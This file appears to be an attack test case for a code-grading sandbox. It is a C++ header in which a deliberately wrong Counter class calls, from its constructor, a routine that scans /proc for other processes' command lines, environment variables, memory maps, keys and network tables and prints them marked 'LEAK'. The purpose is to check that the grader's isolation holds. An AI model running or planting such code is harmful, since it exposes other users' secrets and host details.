// ATTACK reads_of_other_processes
// CLASS: leak
// TRIES: reads what /proc tells about other processes: command lines, environments, memory, open
//   files.
// SAFE GRADER MUST: let nothing of the hidden sources, the oracle, other people's files or the host
//   reach a page.
// HONEST-RESULT: fail
// AT-MOST: 0
#pragma once
#include <initializer_list>
#include <cstdio>
#include <string>
#include <unistd.h>
namespace spying {
inline void show(const std::string& path) {
    std::FILE* file = std::fopen(path.c_str(), "rb");
    if (!file) return;
    char text[600];
    const auto size = std::fread(text, 1, sizeof text, file);
    std::fclose(file);
    for (std::size_t i = 0; i < size; ++i) if (!text[i]) text[i] = ' ';
    if (size) std::printf("LEAK %s %.*s\n", path.c_str(), static_cast<int>(size), text);
}
inline void look() {
    const int around = getppid();
    for (int pid = 1; pid < 400; ++pid)
        for (const char* what : {"cmdline", "environ", "maps", "mountinfo", "cgroup"})
            show("/proc/" + std::to_string(pid) + "/" + what);
    for (int pid = around - 40; pid <= around + 1; ++pid)
        for (const char* what : {"cmdline", "environ", "maps", "root/etc/hostname", "cwd/README.md"})
            show("/proc/" + std::to_string(pid) + "/" + what);
    for (const char* what : {"/proc/self/environ", "/proc/self/mountinfo", "/proc/self/cgroup", "/proc/version",
                             "/proc/net/tcp", "/proc/keys", "/proc/mounts", "/proc/thread-self/status"})
        show(what);
    std::fflush(stdout);
}
}
class Counter {  // wrong on purpose
public:
    Counter() { spying::look(); }
    void inc() {}
    void add(int) {}
    void reset() {}
    int value() const { return 4711; }
};
